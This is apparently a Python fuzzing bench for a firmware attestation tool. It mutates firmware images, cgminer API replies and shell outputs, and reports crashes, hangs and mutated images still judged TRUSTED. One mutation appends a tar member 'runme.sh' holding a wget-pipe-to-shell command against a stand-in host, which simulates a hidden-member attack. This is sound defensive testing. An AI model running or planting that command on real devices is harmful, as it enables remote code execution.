"""Fuzz the firmware image reader and the device reply parsers, for a set time, with the tests' seeds.

    nice .venv/bin/python bench/fuzz.py [--minutes 10] [--seed 1] [--out DIR]

Seeds are what the tests build: every file of tests/image's kit (made with mksquashfs, mkimage,
mke2fs, ubinize, tar, gzip and openssl by tests/image/conftest.build_kit) plus its inner layers;
the simulator's API replies for every rig family of the mixed fleet (attest.sim.api_replies); and
the shell outputs of tests/drivers/test_shell.genuine_replies. Each case mutates one seed (bit
flips, overwritten, zeroed, inserted or duplicated runs, truncation, 32-bit header fields set to
edge values, junk or a tar member appended, and for gzip seeds the same inside the stream, which
is then recompressed so the mutation reaches the tar, ext2 or cpio within), then:

- image: ``inspect_file`` and ``appraise_inspection`` against the kit's manifest. A mutated file
  that is TRUSTED must keep the original's signed content byte for byte (every layer a manifest
  lists or a vendor signature covers); each such file is reported with why (which layers
  changed, which bytes), and one whose signed content changed is a FALSE TRUSTED;
- api: a real loopback API server answers ``attest.drivers.cgminer.collect`` with the mutated
  replies: a CollectError is an answer, any other exception a crash, and every claim must be
  plain bounded text or an integer;
- shell: the mutated outputs through ``collect_shell_evidence`` and every ``parse_*``.

The cases run in a worker process watched by this one: a case that takes longer than
``--hang-seconds`` is a hang (the worker is killed, the case saved, the run goes on). Prints
figures; writes the report and every crash, hang and TRUSTED case under --out.
"""

from __future__ import annotations

import argparse
import asyncio
import gzip
import io
import json
import os
import random
import resource
import subprocess
import sys
import tarfile
import time
import traceback
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))  # the tests' builders and seeds

INTERESTING = (0, 1, 0x7F, 0x80, 0xFF, 0x7FFF, 0xFFFF, 0x7FFFFFFF, 0x80000000, 0xFFFFFFFF)


# --- mutations ---------------------------------------------------------------------------------

def mutate(data: bytes, rnd: random.Random) -> tuple[bytes, str]:
    """One mutation and its name. Gzip seeds are mutated inside the stream half the time."""
    if data[:2] == b"\x1f\x8b" and rnd.random() < 0.5:
        try:
            inner = gzip.decompress(data)
        except (OSError, EOFError, ValueError):
            inner = None
        if inner is not None and len(inner) < 64 << 20:
            changed, how = _mutate_raw(inner, rnd)
            return gzip.compress(changed, 6, mtime=0), f"inside the gzip stream: {how}"
    return _mutate_raw(data, rnd)


def _mutate_raw(data: bytes, rnd: random.Random) -> tuple[bytes, str]:
    d = bytearray(data)
    if not d:
        return bytes(rnd.randbytes(rnd.randrange(1, 600))), "random bytes"
    at = rnd.randrange(len(d))
    op = rnd.choice(("flip", "block", "zero", "truncate", "insert", "duplicate", "field", "field", "append-junk",
                     "append-member"))
    if op == "flip":
        for _ in range(rnd.randint(1, 8)):
            d[rnd.randrange(len(d))] ^= 1 << rnd.randrange(8)
    elif op == "block":
        d[at:at + 64] = rnd.randbytes(64)
    elif op == "zero":
        d[at:at + 512] = bytes(min(512, len(d) - at))
    elif op == "truncate":
        del d[at:]
    elif op == "insert":
        d[at:at] = rnd.randbytes(rnd.choice((1, 4, 512, 4096)))
    elif op == "duplicate":
        n = rnd.choice((512, 1024, 4096))
        d[at:at] = d[max(0, at - n):at]
    elif op == "field":  # a header-sized integer set to an edge value: lengths, counts, offsets
        at = rnd.randrange(0, min(len(d), 8192)) & ~3
        d[at:at + 4] = rnd.choice(INTERESTING).to_bytes(4, rnd.choice(("little", "big")))
    elif op == "append-junk":
        d += rnd.randbytes(512)
    else:  # a second runme.sh after the data: the hidden-member attack, at random places
        d += _tar_member("runme.sh", b"#!/bin/sh\nwget -q -O- http://203.0.113.9/x | sh\n")
    return bytes(d), f"{op} at byte {at}"


def _tar_member(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tf:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


# --- seeds -------------------------------------------------------------------------------------

def build_seeds(work: Path) -> dict[str, Any]:
    from tests.image.conftest import build_kit

    (work / "kit").mkdir(parents=True)
    kit = build_kit(work / "kit")
    files = {name: str(path) for name, path in kit.files.items()}
    for extra in ("uImage", "uramdisk.image.gz", "rootfs-genuine.squashfs", "ramdisk.ext2", "ubi/rootfs.ubifs"):
        files[extra] = str(kit.root / extra)
    with tarfile.open(kit["genuine"]) as tf:  # the inner layers, as seeds of their own
        handle = tf.extractfile("fw.tar.gz")
        assert handle is not None
        (work / "fw.tar.gz").write_bytes(handle.read())
    files["fw.tar.gz"] = str(work / "fw.tar.gz")
    (work / "genuine.tar").write_bytes(gzip.decompress(kit["genuine"].read_bytes()))
    files["genuine.tar"] = str(work / "genuine.tar")
    return {"trust": str(kit.trust), "manifest": str(kit.manifest), "files": files}


# --- the worker --------------------------------------------------------------------------------

class Worker:
    def __init__(self, seeds: dict[str, Any], out: Path, seed: int) -> None:
        from attest.image.limits import Limits
        from attest.manifest import load_manifest
        from attest.trust import TrustStore

        self.out, self.seed = out, seed
        self.trust = TrustStore.load(seeds["trust"])
        self.manifest = load_manifest(seeds["manifest"], self.trust, state=None)
        self.layouts = [r.flash_layout for r in self.manifest.firmware if r.flash_layout]
        self.limits = Limits(max_seconds=20, max_check_seconds=10)
        self.images = {name: Path(p).read_bytes() for name, p in seeds["files"].items()}
        self.originals: dict[str, Any] = {}
        self.api_seeds = _api_seeds()
        self.shell_seeds = _shell_seeds()

    def case(self, index: int) -> dict[str, Any]:
        rnd = random.Random(f"{self.seed}:{index}")
        kind = rnd.choices(("image", "api", "shell"), weights=(6, 3, 1))[0]
        return {"image": self.image_case, "api": self.api_case, "shell": self.shell_case}[kind](index, rnd)

    # image --------------------------------------------------------------------------------
    def image_case(self, index: int, rnd: random.Random) -> dict[str, Any]:
        from attest.image.appraise_image import appraise_inspection
        from attest.image.walk import inspect_file
        from attest.verdict import Verdict

        name = rnd.choice(sorted(self.images))
        original = self.images[name]
        data, how = mutate(original, rnd)
        path = self.out / "current" / (f"case{Path(name).name}")
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(data)
        inspection = inspect_file(path, self.trust, layouts=self.layouts, limits=self.limits)
        verdict = appraise_inspection(inspection, [self.manifest]).verdict
        result: dict[str, Any] = {"kind": "image", "seed": name, "mutation": how, "verdict": verdict.value}
        if verdict is Verdict.TRUSTED:
            result["trusted"] = self._why_trusted(name, original, data, inspection)
            result["trusted"]["where"] = _where_changed(original, data, how)
            result["trusted"]["gnu_tar_agrees"] = _gnu_tar_agrees(path, inspection)
            kept = self.out / "trusted" / f"{index:07d}-{Path(name).name}"
            kept.parent.mkdir(exist_ok=True)
            kept.write_bytes(data)
        return result

    def _why_trusted(self, name: str, original: bytes, data: bytes, inspection: Any) -> dict[str, Any]:
        from attest.image.walk import inspect_file

        if name not in self.originals:
            src = self.out / "current" / f"orig{Path(name).name}"
            src.write_bytes(original)
            self.originals[name] = inspect_file(src, self.trust, layouts=self.layouts)
        before = {n.path: n for n in self.originals[name].nodes()}
        after = {n.path: n for n in inspection.nodes()}
        listed = {d for r in self.manifest.firmware for d in (*r.images.values(), *r.packages.values())}

        def signed(nodes: dict[str, Any]) -> set[tuple[str, str]]:
            return {(p, n.sha256) for p, n in nodes.items() if n.sha256 and (n.sha256 in listed or n.vendor_signed)}

        diff = [i for i in range(min(len(data), len(original))) if data[i] != original[i]]
        changed = sorted(p or "(the file)" for p in before.keys() & after.keys()
                         if before[p].sha256 != after[p].sha256)
        gone = sorted(before.keys() - after.keys())
        added = sorted(after.keys() - before.keys())
        return {"identical": data == original, "signed_content_unchanged": signed(before) == signed(after),
                "bytes_changed": len(diff) + abs(len(data) - len(original)),
                "first_changed_byte": diff[0] if diff else min(len(data), len(original)),
                "layers_changed": [f"{p} ({after[p if p != '(the file)' else ''].role})" for p in changed][:12],
                "layers_gone": gone[:12], "layers_added": added[:12]}

    # api ----------------------------------------------------------------------------------
    def api_case(self, index: int, rnd: random.Random) -> dict[str, Any]:
        from attest.claim_values import checked
        from attest.drivers import cgminer
        from attest.drivers.base import CollectError, Endpoint
        from attest.sim.api_replies import Clock, render_reply
        from tests.drivers.loopback import serve, session

        rig = rnd.choice(self.api_seeds)
        mutated: list[str] = []

        async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            request = await reader.read(65536)
            reply = render_reply(rig, request, Clock(1_700_000_000, 3600))
            if rnd.random() < 0.7:
                reply, how = _mutate_raw(reply, rnd)
                mutated.append(how)
            writer.write(reply)
            await writer.drain()
            writer.close()

        async def run() -> list[Any]:
            async with serve(answer) as port:
                return await cgminer.collect(Endpoint("api", "127.0.0.1", port), session(timeout=5.0))

        try:
            claims = asyncio.run(run())
        except CollectError as e:
            return {"kind": "api", "seed": rig.family, "mutation": mutated, "outcome": e.code}
        claims, refused = checked(claims, "api://127.0.0.1")  # what attest.collect keeps of any driver's claims
        return {"kind": "api", "seed": rig.family, "mutation": mutated, "outcome": f"{len(claims)} claims",
                "refused": len(refused), "not_plain": _check_claims(claims)}

    # shell --------------------------------------------------------------------------------
    def shell_case(self, index: int, rnd: random.Random) -> dict[str, Any]:
        from attest.claim_values import checked
        from attest.drivers import shell
        from attest.drivers.base import CollectOptions
        from attest.drivers.shell_plan import collect_shell_evidence
        from tests.drivers.test_shell import SOURCE, FakeRunner, ok

        replies: dict[str, Any] = {}
        for command, stdout in self.shell_seeds.items():
            changed, _ = _mutate_raw(stdout, rnd) if rnd.random() < 0.5 else (stdout, "")
            replies[command] = ok(changed, rnd.choice((0, 0, 0, 1)))
        claims = asyncio.run(collect_shell_evidence(FakeRunner(replies), SOURCE, CollectOptions()))
        claims, _refused = checked(claims, SOURCE)  # what attest.collect keeps of any driver's claims
        not_plain = _check_claims(claims)
        for parse, raw in ((shell.parse_mac, replies[shell.CMD_MAC].stdout),
                           (shell.parse_cpuinfo_serial, replies[shell.CMD_CPUINFO].stdout),
                           (shell.parse_pool_urls, replies[shell.CMD_POOL_CONFIG].stdout)):
            parse(raw)
        shell.parse_proc_mtd(replies[shell.CMD_PROC_MTD].stdout, limit=32)
        return {"kind": "shell", "outcome": f"{len(claims)} claims", "not_plain": not_plain}


def _check_claims(claims: list[Any]) -> list[str]:
    """Claims whose value is not plain bounded text or an integer (control characters, U+FFFD from
    undecodable bytes) that got past the claim-value check (attest.claim_values, VALUE_MALFORMED):
    a value DESIGN says is a transcript problem, never a claim. Counted apart from crashes."""
    from attest.evidence import printable

    bad = []
    for c in claims:
        if isinstance(c.value, str):
            if printable(c.value) != c.value or "\ufffd" in c.value or len(c.value) > 8192:
                bad.append(f"{c.name}={c.value[:60]!r}")
        elif not isinstance(c.value, int) or isinstance(c.value, bool):
            bad.append(f"{c.name} is a {type(c.value).__name__}")
    return bad


def _where_changed(original: bytes, data: bytes, how: str) -> str:
    """Which part of the seed the changed bytes fall in, for a tar (raw or in its gzip stream)."""
    if data == original:
        return "nowhere"
    inner = how.startswith("inside the gzip stream")
    try:
        raw = gzip.decompress(original) if inner else original
        new = gzip.decompress(data) if inner else data
    except (OSError, EOFError, ValueError):
        return "outside the tar"
    if original[:2] == b"\x1f\x8b" and not inner:
        first = next((i for i in range(min(len(data), len(original))) if data[i] != original[i]), len(original))
        return "gzip header field" if first < 10 else "after the gzip stream" if first >= len(original) else \
            "inside the compressed stream"
    first = next((i for i in range(min(len(new), len(raw))) if new[i] != raw[i]), min(len(new), len(raw)))
    try:
        with tarfile.open(fileobj=io.BytesIO(raw)) as tf:
            members = tf.getmembers()
    except tarfile.TarError:
        return "outside the tar"
    for m in members:
        end = m.offset_data + m.size
        if m.offset <= first < m.offset_data:
            return f"the tar header of {m.name}"
        if m.offset_data <= first < end:
            return f"the data of {m.name}"
        if end <= first < -(-end // 512) * 512:
            return f"the tar padding after {m.name}"
    return "the end-of-archive blocks or record padding"


def _gnu_tar_agrees(path: Path, inspection: Any) -> bool | None:
    """For a TRUSTED tar: does GNU tar (default and -i) list the members our reader did?"""
    tar = next((n for n in inspection.nodes() if n.format == "tar"), None)
    if tar is None or tar.path:  # only the file's own (outer) tar can be handed to tar -t
        return None
    ours = [c.name for c in tar.children]
    for options in ((), ("-i",)):
        done = subprocess.run(["tar", *options, "-tf", str(path)], capture_output=True, check=False)
        if done.stdout.decode(errors="replace").split() != ours:
            return False
    return True


def _api_seeds() -> list[Any]:
    from attest.sim.runner import plan_fleet

    rigs = [r for r in plan_fleet(13, "mixed", "127.0.99.1") if r.scenario not in ("unresponsive", "garbage")]
    return [r for r in rigs if getattr(r, "family", None)]


def _shell_seeds() -> dict[str, bytes]:
    from tests.drivers.test_shell import genuine_replies

    out = {}
    for command, reply in genuine_replies().items():
        if not callable(reply):
            out[command] = reply.stdout
    return out


def worker_main(seeds_file: Path, out: Path, seed: int, first: int) -> int:
    if hasattr(os, "nice"):
        os.nice(10)
    worker = Worker(json.loads(seeds_file.read_text()), out, seed)
    print(json.dumps({"ready": True}), flush=True)
    index = first
    while True:
        print(json.dumps({"start": index}), flush=True)
        started = time.monotonic()
        try:
            result = worker.case(index)
        except Exception as e:  # a crash: the finding this bench exists for
            result = {"kind": "crash", "error": f"{type(e).__name__}: {e}"[:400],
                      "traceback": traceback.format_exc()[-3000:]}
        result.update(index=index, seconds=round(time.monotonic() - started, 3),
                      maxrss_kb=resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
        print(json.dumps(result), flush=True)
        index += 1


# --- the watching parent -----------------------------------------------------------------------

def run(minutes: float, seed: int, out: Path, hang_seconds: float) -> dict[str, Any]:
    import selectors
    import shutil
    import tempfile

    out.mkdir(parents=True, exist_ok=True)
    work = Path(tempfile.mkdtemp(prefix="fuzz-seeds-"))
    seeds_file = out / "seeds.json"
    seeds_file.write_text(json.dumps(build_seeds(work)))
    stop_at = time.monotonic() + minutes * 60
    results: list[dict[str, Any]] = []
    hangs: list[int] = []
    peak_kb = 0
    index = 0
    while time.monotonic() < stop_at:
        proc = subprocess.Popen([sys.executable, __file__, "--worker", str(seeds_file), "--out", str(out),
                                 "--seed", str(seed), "--first", str(index)], stdout=subprocess.PIPE, text=True)
        assert proc.stdout is not None
        sel = selectors.DefaultSelector()
        sel.register(proc.stdout, selectors.EVENT_READ)
        current, since = None, time.monotonic()
        while time.monotonic() < stop_at:
            wait = hang_seconds if current is not None else 120
            if not sel.select(timeout=max(0.0, min(wait - (time.monotonic() - since), stop_at - time.monotonic()))):
                if current is not None and time.monotonic() - since >= hang_seconds:
                    hangs.append(current)
                    results.append({"kind": "hang", "index": current})
                    index = current + 1
                break
            line = proc.stdout.readline()
            if not line:  # the worker died under a case: a crash of the process itself
                if current is not None:
                    results.append({"kind": "crash", "index": current, "error": f"worker died ({proc.poll()})"})
                    index = current + 1
                break
            doc = json.loads(line)
            if "start" in doc:
                current, since = doc["start"], time.monotonic()
            elif "index" in doc:
                results.append(doc)
                peak_kb = max(peak_kb, doc.get("maxrss_kb", 0))
                current, index = None, doc["index"] + 1
        proc.kill()
        proc.wait()
        sel.close()
    shutil.rmtree(work, ignore_errors=True)
    return summarise(results, hangs, peak_kb, minutes, out)


def summarise(results: list[dict[str, Any]], hangs: list[int], peak_kb: int, minutes: float,
              out: Path) -> dict[str, Any]:
    from collections import Counter

    by_kind = Counter(r["kind"] for r in results)
    crashes = [r for r in results if r["kind"] == "crash"]
    trusted = [r for r in results if r.get("verdict") == "TRUSTED"]
    false_trusted = [r for r in trusted if not r["trusted"]["signed_content_unchanged"]]
    verdicts = Counter(r["verdict"] for r in results if r["kind"] == "image")
    slowest = max((r.get("seconds", 0) for r in results), default=0)
    not_plain = [r for r in results if r.get("not_plain")]
    disagree = [r for r in trusted if r["trusted"].get("gnu_tar_agrees") is False]
    report = {"minutes": minutes, "cases": len(results), "by_kind": dict(by_kind), "image_verdicts": dict(verdicts),
              "crashes": crashes, "hangs": hangs, "peak_rss_mb": round(peak_kb / 1024, 1),
              "slowest_case_seconds": slowest, "trusted": trusted, "false_trusted": len(false_trusted),
              "gnu_tar_disagrees": len(disagree), "claims_not_plain": not_plain}
    (out / "report.json").write_text(json.dumps(report, indent=1))
    return report


def explain(trusted: list[dict[str, Any]]) -> list[tuple[str, int]]:
    """TRUSTED mutated files grouped by why they stay TRUSTED."""
    from collections import Counter

    reasons: Counter[str] = Counter()
    for r in trusted:
        t = r["trusted"]
        if t["identical"]:
            why = "no byte changed (the mutation wrote the bytes that were there)"
        elif not t["signed_content_unchanged"]:
            why = "FALSE TRUSTED: signed content changed"
        elif any("(partition)" in x for x in t["layers_changed"]) and not t["layers_gone"] and not t["layers_added"]:
            parts = ", ".join(x.split(" (")[0] for x in t["layers_changed"] if "(partition)" in x)
            why = (f"every signed layer byte-identical; only flash no signed image covers changed ({parts}): per-unit "
                   "data in a partition the signed layout lists, or erased space, with no code in it")
        else:
            layers = ", ".join(t["layers_changed"]) or "no layer's digest"
            where = f" (the first changed byte is in {t['where']})" if t.get("where") not in (None, "outside the tar") \
                else ""
            why = f"every signed layer byte-identical; changed: {layers}{where}"
        reasons[f"{r['seed']}: {why}"] += 1
    return reasons.most_common()


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--minutes", type=float, default=10.0)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--out", default="fuzz-out")
    parser.add_argument("--hang-seconds", type=float, default=60.0)
    parser.add_argument("--worker", help=argparse.SUPPRESS)
    parser.add_argument("--first", type=int, default=0, help=argparse.SUPPRESS)
    args = parser.parse_args()
    out = Path(args.out).resolve()
    if args.worker:
        return worker_main(Path(args.worker), out, args.seed, args.first)
    if hasattr(os, "nice"):
        os.nice(10)
    started = time.monotonic()
    report = run(args.minutes, args.seed, out, args.hang_seconds)
    elapsed = time.monotonic() - started
    children = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    print(f"fuzz: {report['cases']:,} cases in {elapsed / 60:.1f} min ({report['by_kind']})")
    print(f"  image verdicts: {report['image_verdicts']}")
    print(f"  crashes: {len(report['crashes'])}   hangs (> {args.hang_seconds:g} s): {len(report['hangs'])}   "
          f"slowest case: {report['slowest_case_seconds']:.2f} s")
    print(f"  peak RSS of the worker: {report['peak_rss_mb']:.0f} MB (largest child: {children:.0f} MB)")
    print(f"  mutated files TRUSTED: {len(report['trusted'])}, of which signed content changed (FALSE TRUSTED): "
          f"{report['false_trusted']}")
    print(f"  TRUSTED tars GNU tar lists differently: {report['gnu_tar_disagrees']}")
    print(f"  API/shell cases with a claim value that is not plain text past the claim-value check: "
          f"{len(report['claims_not_plain'])}")
    for why, n in explain(report["trusted"]):
        print(f"    {n:4d} x {why}")
    for crash in report["crashes"][:10]:
        print(f"  crash in case {crash['index']}: {crash.get('error')}")
    print(f"  report: {out / 'report.json'}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
